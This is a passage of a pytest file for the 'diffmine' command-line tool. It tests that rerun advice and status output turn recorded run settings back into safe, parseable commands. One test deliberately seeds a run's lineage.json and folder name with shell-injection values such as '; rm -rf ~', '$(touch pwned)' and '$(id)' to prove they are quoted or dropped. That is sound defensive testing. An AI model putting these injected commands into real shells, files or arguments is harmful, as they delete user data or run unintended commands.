        assert Run(copy).lineage.get(name)["settings"] == settings, name
        assert not Run(copy).stale(name)


def test_rerun_advice_quotes_an_edited_record_and_drops_what_is_no_flag(tiny, tmp_path):
    """A received run's lineage.json is editable text: pasted into a shell, the command `status`
    prints runs `diffmine STEP` alone, with the record's values as its arguments, word for word
    (or not at all: unknown keys, values of another kind, values the step refuses). The run's own
    folder is one word too, whatever its name."""
    _, _, run = tiny
    copy = cp_r(run, tmp_path / "a copy $(touch pwned)")
    path = copy / "lineage.json"
    records = json.loads(path.read_text())
    records["mine"]["settings"].update(per_image=3, top="; rm -rf ~", errors="iid; rm -rf ~", least=[1, "$(id)"],
                                       random=None, evil="$(touch pwned)")
    records["mine"]["inputs"]["typicality"] = "0" * 20  # stale
    model = {"model": records["model"]["identity"]}  # incomplete: status names their own commands
    records["translate"] = {"settings": {"to": "a; rm -rf ~ $(touch pwned)", "attention_blocks": "$(touch pwned)", "images": 2,
                                         "guidance": "-x", "steps": True, "evil": "`touch pwned`"},
                            "inputs": model, "identity": "1" * 20, "command": "translate; sh", "complete": False}
    records["trends"] = {"settings": {"order": ["$(touch pwned)", "b; rm -rf ~"], "min_size": 4},
                         "inputs": model, "identity": "2" * 20, "command": "trends", "complete": False}
    path.write_text(json.dumps(records))
    home, work, bin_ = tmp_path / "home", tmp_path / "work", tmp_path / "bin"
    for folder in (home, work, bin_):
        folder.mkdir()
    (home / "kept").write_text("")
    stub = bin_ / "diffmine"  # what the shell would run: its arguments, one a line
    stub.write_text('#!/bin/sh\nfor word in "$@"; do printf \'%s\\n\' "$word"; done > "$ARGV"\n')
    stub.chmod(0o755)
    text = status(Run(copy))
    pasted = {}
    for step in ("mine", "translate", "trends"):
        argv = tmp_path / f"{step}.argv"
        env = {**os.environ, "PATH": f"{bin_}:{os.environ['PATH']}", "HOME": str(home), "ARGV": str(argv)}
        subprocess.run(["bash", "-c", printed_command(text, step)], cwd=work, env=env, check=True)
        pasted[step] = argv.read_text().splitlines()
        assert pasted[step][0] == step
    assert (home / "kept").is_file() and not any(work.iterdir())  # nothing else ran
    parse = cli.parser().parse_args
    mine = parse(pasted["mine"])
    assert (mine.per_image, mine.top, mine.errors, mine.least, mine.random) == (3, 1000, "stratified", 50, 50)
    assert pasted["mine"] == ["mine", "--per-image", "3", "--run", str(copy)]
    translate = parse(pasted["translate"])
    # its labels are free text; attention_blocks one the config refuses
    assert (translate.to, translate.attention_blocks, translate.images) == ("a; rm -rf ~ $(touch pwned)", "1,2,3", 2)
    assert "--guidance" not in pasted["translate"] and "--steps" not in pasted["translate"]
    trends = parse(pasted["trends"])
    assert (trends.order, trends.min_size) == ("$(touch pwned),b; rm -rf ~", 4)


# a value other than the default that each str field without CHOICES takes
OTHER_STRINGS = {"errors": "iid", "rank": "median", "attention_blocks": "1,2", "images": "all", "threshold": "members",
                 "candidates": "typical", "to": "a", "map_dtype": "float32", "preset": "paper"}


def other_values(field) -> list:
    """Values other than the field's default, of its kind, to try on its config."""
    from diffmine.flags import CHOICES
    from diffmine.rerun import field_kind

    default, kind = field.default, field_kind(field)
    if kind is bool:
        return [not default]
    if isinstance(default, tuple):
        return [[default[0], default[0] / 2]]
    if kind is int:
        return [(default or 0) + 8, (default or 0) + 10_000]
    if kind is float:
        return [(default or 0.0) + 0.25, (default or 1.0) / 2]
    return [c for c in (*CHOICES.get(field.name, ()), OTHER_STRINGS.get(field.name)) if c not in (None, default)]


def test_every_flag_of_a_hint_gives_its_setting_back():
    """The hints' flags come from the commands' configs as the CLI adds them (one option per field):
    any field's recorded value comes back through the CLI's parser unchanged."""
    from diffmine.rerun import command_configs, command_flags

    parse = cli.parser().parse_args
    arguments = {"contrast": ["a", "b"], "trends": ["--order", "a,b"]}
    checked = 0
    for command in ("train", "typicality", "mine", "cluster", "report", "classify", "translate", "cotypicality",
                    "contrast", "trends", "baseline doersch"):
        for result, key, config, prefix, fixed in command_configs(command):
            for field in dataclasses.fields(config):
                if field.name in fixed or field.default == "auto":  # no flag; the stored precision kept
                    continue
                for value in other_values(field):
                    try:
                        config(**{field.name: value})
                    except ValueError:
                        continue  # not one the config takes
                    name = result.format("contrast-x")
                    settings = {key: {field.name: value}} if key else {field.name: value}
                    words = shlex.split(" ".join(command_flags(command, name, {name: {"settings": settings}})))
                    args = parse([*command.split(), *arguments.get(command, []), "--run", "R", *words])
                    dest = "seed" if field.name == "seed" else prefix.replace("-", "_") + field.name
                    assert getattr(args, dest) == value, (command, field.name, words)
                    checked += 1
                    break
    assert checked > 150


def test_a_result_that_left_images_out_is_another_result_and_is_made_again(tmp_path):
    """What a result left out (unreadable, or edited since listing) is part of its identity, so the
    result made once they are fixed makes what was made from it stale; and it is never served as
    up to date, so the next step call tries them again."""
    record = lineage.Lineage(tmp_path)
    settings, inputs = {"samples": 2}, {"listing": "9c1d"}
    whole = record.put("classify", settings, inputs, "classify")
    assert lineage.plan(record, "classify", settings, inputs) == "done" and "left_out" not in whole
    partial = record.put("classify", settings, inputs, "classify", left_out=["b/1.png", "a/0.png"])
    assert partial["left_out"] == 2 and partial["identity"] != whole["identity"]
    assert lineage.plan(record, "classify", settings, inputs) == "resume"
    again = record.put("classify", settings, inputs, "classify", left_out=["a/0.png", "b/1.png"])
    assert again["identity"] == partial["identity"]  # the same images, in any order: the same result


def test_a_typicality_hint_names_the_outside_model_it_was_scored_with():
    """A result scored with `typicality --model sd:FOLDER` (or a hub id) is made again by the same
    model: the hint gives --model and --text-encoder, a local folder from the record's location
    (quoted), else the run's own model would be refused as "made differently"."""
    from diffmine.lineage import rerun_command
    from diffmine.pipeline import LOCAL

    local = {"settings": {"model": f"sd:{LOCAL}", "model_options": {"text_encoder": LOCAL}, "samples": 4},
             "location": {"base": "/models/sd 1.5", "text_encoder": "/models/clip"}}
    assert rerun_command("typicality", local) == \
        "typicality --samples 4 --model 'sd:/models/sd 1.5' --text-encoder /models/clip"
    hub = {"settings": {"model": "sd:org/model", "model_options": {}}}
    assert rerun_command("typicality", hub) == "typicality --model sd:org/model"
    own = {"settings": {"model": "run", "model_options": {}}, "location": {"base": "/elsewhere"}}
    assert rerun_command("typicality", own) == "typicality"
    edited = {"settings": {"model": f"sd:{LOCAL}", "model_options": {}}, "location": {"base": ["not", "text"]}}
    assert rerun_command("typicality", edited) == "typicality"


def test_a_train_hint_gives_the_steps_and_the_model_options_it_was_trained_with():
    """A model's record keeps its steps and ``model_options`` beside the training settings: the hint
    gives them back (a LoRA model retrained without --lora-rank is refused as made differently)."""
    from diffmine.lineage import rerun_command

    record = {"settings": {"model": "sd:/models/sd 1.5", "model_options": {"lora_rank": 4, "text_encoder": "/m/clip"},
                           "learning_rate": 1e-4, "seed": 0}, "steps": 900}
    assert rerun_command("model", record) == "train --learning-rate 0.0001 --steps 900 --lora-rank 4 --text-encoder /m/clip"
    edited = {"settings": {"model_options": {"lora_rank": "4; sh", "text_encoder": ["x"]}}, "steps": "900"}
    assert rerun_command("model", edited) == "train"


def test_the_command_named_for_every_result_is_one_the_parser_takes():
    """What status and a stale reason say to run, for a result made with no settings of note,
    parses as given (`localize --run RUN` lacked its --boxes or --masks, `prepare --run RUN` and
    `train --run RUN` its --data): the recorded settings fill in what a command requires."""
    from diffmine.lineage import COMMANDS, rerun_command

    parse = cli.parser().parse_args
    recorded = {"localize": {"boxes": "/data/boxes list.csv", "masks": None, "blur": 1.5, "before": None},
                "trends": {"order": ["a", "b"]}}
    for name in COMMANDS:
        words = shlex.split(rerun_command(name, {"settings": recorded.get(name, {})}))
        args = parse([*words, "--run", "R"])
        assert args.command == words[0], name
    localize = parse([*shlex.split(rerun_command("localize", {"settings": recorded["localize"]})), "--run", "R"])
    assert str(localize.boxes) == "/data/boxes list.csv" and localize.blur == 1.5 and localize.masks is None


def test_status_of_a_copied_run_names_the_dataset_inside_the_copy(tmp_path):
    """A dataset inside the run (as `demo` writes it) is read from the copy's own folder: status
    named the original's, which may be gone."""
    from diffmine.status import status
    from diffmine.synthetic import SynthConfig, generate

    run = tmp_path / "run"
    images = generate(run / "data", SynthConfig(labels=2, per_label=2, size=32), progress=False)
    assert cli.main(["prepare", "--data", str(images), "--run", str(run), "--resolution", "32"]) == 0
    copy = cp_r(run, tmp_path / "copy")
    shutil.rmtree(run)
    assert status(Run(copy)).splitlines()[1].endswith(f"({copy / 'data' / 'images'})")


def test_prepare_without_data_lists_the_runs_dataset_again_from_a_copy_too(tmp_path, capsys):
    """`prepare --run RUN` lists the run's dataset again with its recorded prompts and settings (an
    image added is listed; the held-out split drawn with the recorded seed). A dataset inside the run is
    read from the copy's own folder, the original gone; a received record naming a place outside
    its root is refused, and so is a listing flag given without --data."""
    from diffmine.synthetic import SynthConfig, generate

    run = tmp_path / "run"
    images = generate(run / "data", SynthConfig(labels=2, per_label=3, size=32), progress=False)
    assert cli.main(["prepare", "--data", str(images), "--run", str(run), "--resolution", "32", "--prompt",
                     "A scene from {label}.", "--holdout", "0.34", "--seed", "3"]) == 0
    listed = Run(run).images()
    copy = cp_r(run, tmp_path / "copy")
    shutil.rmtree(run)
    shutil.copy(copy / "data" / "images" / "norland" / "img_0000.png", copy / "data" / "images" / "norland" / "new.png")
    capsys.readouterr()
    assert cli.main(["prepare", "--run", str(copy)]) == 0
    assert f"listing the run's dataset again from {copy / 'data' / 'images'}" in capsys.readouterr().out
    again = Run(copy)
    settings = again.step_config("dataset")
    assert settings["prompt"] == "A scene from {label}." and settings["resolution"] == 32 and settings["holdout_seed"] == 3
    now = again.images()
    assert len(now) == len(listed) + 1 and "norland/new.png" in set(now["image_id"])
    kept = now.set_index("image_id").loc[listed["image_id"], "split"]
    assert (kept.to_numpy() == listed["split"].to_numpy()).all()  # the recorded seed (one held out per label still)
    capsys.readouterr()
    assert cli.main(["prepare", "--run", str(copy), "--resolution", "64"]) == 2
    assert "--resolution sets how a dataset is listed: pass --data" in capsys.readouterr().err
    record = json.loads((copy / "lineage.json").read_text())
    record["listing"]["settings"]["data_in_root"] = "../../elsewhere"
    (copy / "lineage.json").write_text(json.dumps(record))
    assert cli.main(["prepare", "--run", str(copy)]) == 2
    assert "does not say where in" in capsys.readouterr().err
    record["listing"]["settings"].update(data_in_root=".", resolution="32")
    (copy / "lineage.json").write_text(json.dumps(record))
    assert cli.main(["prepare", "--run", str(copy)]) == 2
    assert "the listing's resolution is not what diffmine records" in capsys.readouterr().err
